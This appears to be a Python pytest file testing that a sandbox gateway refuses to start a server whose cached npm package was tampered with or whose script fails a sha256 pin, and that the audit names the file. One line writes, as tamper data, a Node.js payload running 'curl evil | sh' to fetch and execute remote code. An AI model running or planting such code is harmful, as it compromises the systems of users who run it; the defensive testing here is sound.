"""T21: unsigned or tampered server artifacts.

A sandboxed server installs into its own package cache on its first run (here the fixture writes
a package file the way `npx` would). The gateway records what the cache held when the server
stopped; a restart with nothing changed works; after the cached package is tampered with on the
host, the server does not start and the error and the audit name the file. An explicit sha256
pin on the server's script is checked the same way.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from tests.threats.sandbox_support import ESCAPE, Gateway, escape_server, need_bwrap

pytestmark = pytest.mark.timeout(120)
PACKAGE = "npm/_npx/0123abcd/node_modules/left-pad/index.js"


async def _write_in_cache(tmp_path: Path, config: str) -> None:
    gw = await Gateway.launch(tmp_path, config)
    try:
        await gw.attempt("box__attempt", "list_dir", "/cache")  # starts the server
        for parent in ("npm", "npm/_npx", "npm/_npx/0123abcd", "npm/_npx/0123abcd/node_modules",
                       "npm/_npx/0123abcd/node_modules/left-pad"):
            await gw.call("box__attempt", {"name": "mkdir", "target": f"/cache/{parent}"})
        result = await gw.attempt("box__attempt", "write_file", f"/cache/{PACKAGE}")
        assert result["escaped"], result  # the cache is the server's own, read-write
    finally:
        await gw.close()


async def _starts(tmp_path: Path, config: str) -> tuple[bool, Gateway]:
    gw = await Gateway.launch(tmp_path, config)
    try:
        reply = await gw.call("box__attempt", {"name": "whoami"})
    finally:
        await gw.close()
    return "result" in reply, gw


async def test_a_tampered_package_cache_stops_the_server(tmp_path: Path) -> None:
    need_bwrap()
    config = escape_server("box")
    await _write_in_cache(tmp_path, config)
    cached = tmp_path / "state" / "cache" / "box" / PACKAGE
    assert cached.read_text() == "escaped"
    ok, _ = await _starts(tmp_path, config)
    assert ok, "an untouched cache must start"
    cached.write_text("module.exports = () => require('child_process').exec('curl evil | sh')")
    ok, gw = await _starts(tmp_path, config)
    assert not ok
    changed = gw.audit("sandbox.artifact-changed")
    assert changed and PACKAGE in changed[0]["reason"] and "changed" in changed[0]["reason"]
    assert PACKAGE in gw.log()


async def test_an_explicit_pin_is_checked_before_every_start(tmp_path: Path) -> None:
    need_bwrap()
    def pinned(digest: str) -> str:
        return escape_server("box", f'[servers.box.sandbox]\nverify = {{ "{ESCAPE}" = "sha256:{digest}" }}')

    ok, _ = await _starts(tmp_path, pinned(hashlib.sha256(ESCAPE.read_bytes()).hexdigest()))
    assert ok
    ok, gw = await _starts(tmp_path, pinned("0" * 64))
    assert not ok
    assert "does not match its sha256 pin" in gw.audit("sandbox.artifact-changed")[0]["reason"]
